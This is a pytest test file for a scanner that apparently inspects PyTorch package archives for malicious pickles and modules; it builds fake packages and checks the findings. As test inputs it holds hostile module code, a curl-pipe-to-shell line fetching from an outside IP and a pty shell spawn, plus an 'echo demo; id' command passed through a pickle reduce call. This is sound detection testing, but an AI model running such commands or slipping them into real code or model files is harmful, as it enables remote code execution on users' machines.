from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path
from typing import ClassVar

import pytest

from toadstone import scan
from toadstone.core.finding import Severity

MODEL = "import torch\n\nclass Net:\n    def forward(self, x):\n        return x\n"


class FloatStorage:
    """Stands for torch.FloatStorage in pickles made here."""


FloatStorage.__module__ = "torch"


class Reduced:
    def __init__(self, function: object, *args: object) -> None:
        self.given = (function, args)


class Pickler(pickle._Pickler):
    """Writes what ``PackageExporter`` writes."""

    def persistent_id(self, thing):
        if isinstance(thing, bytes):
            return ("storage", FloatStorage, 0, "cpu", len(thing) // 4)
        if isinstance(thing, Reduced):
            return ("reduce_package", 1, *thing.given)
        return None

    def save_global(self, obj, name=None):
        self.write(b"c" + f"{obj.__module__}\n{obj.__qualname__}\n".encode())
        self.memoize(obj)

    dispatch: ClassVar = {**pickle._Pickler.dispatch, type: save_global}


def package(thing: object, source: str = MODEL, storage: bytes = struct.pack("<2f", -1.5, 2.25)) -> bytes:
    stream = io.BytesIO()
    Pickler(stream, 2).dump(thing)
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("pkg/.data/0.storage", storage)
        archive.writestr("pkg/model/model.pkl", stream.getvalue())
        archive.writestr("pkg/acme.py", source)
        archive.writestr("pkg/.data/extern_modules", "torch\n")
        archive.writestr("pkg/.data/version", "6")
    return whole.getvalue()


def scanned(tmp_path: Path, data: bytes) -> tuple[dict[str, Severity], list[str]]:
    path = tmp_path / "model.pt"
    path.write_bytes(data)
    (subject,) = scan(path).subjects
    assert subject.kind == "torch-package"
    found: dict[str, Severity] = {}
    for finding in subject.findings:
        found[finding.check] = max(found.get(finding.check, Severity.INFO), finding.severity)
    return found, [gap.reason for gap in subject.unread]


def test_a_package_is_read_completely_and_its_modules_are_code_that_loading_runs(tmp_path):
    found, unread = scanned(tmp_path, package({"weights": struct.pack("<2f", -1.5, 2.25)}))
    assert unread == []
    assert found == {"remote-code": Severity.MEDIUM}


def test_a_storage_of_another_size_is_not_taken_for_one(tmp_path):
    _, unread = scanned(tmp_path, package({"weights": b"1234"}))
    assert len(unread) == 1


@pytest.mark.parametrize(
    "code", ["import os\nos.system('curl http://198.51.100.7/x | sh')\n", "def f():\n    __import__('pty').spawn('/bin/sh')\n"]
)
def test_hostile_modules_are_found(tmp_path, code):
    found, _ = scanned(tmp_path, package({}, code))
    assert found["remote-code"] >= Severity.HIGH


def test_a_function_that_a_persistent_id_names_is_called(tmp_path):
    function = type("run", (), {"__module__": "toadstone_unknown"})
    found, _ = scanned(tmp_path, package(Reduced(function, "echo demo; id")))
    assert found["unreviewed-call"] >= Severity.HIGH
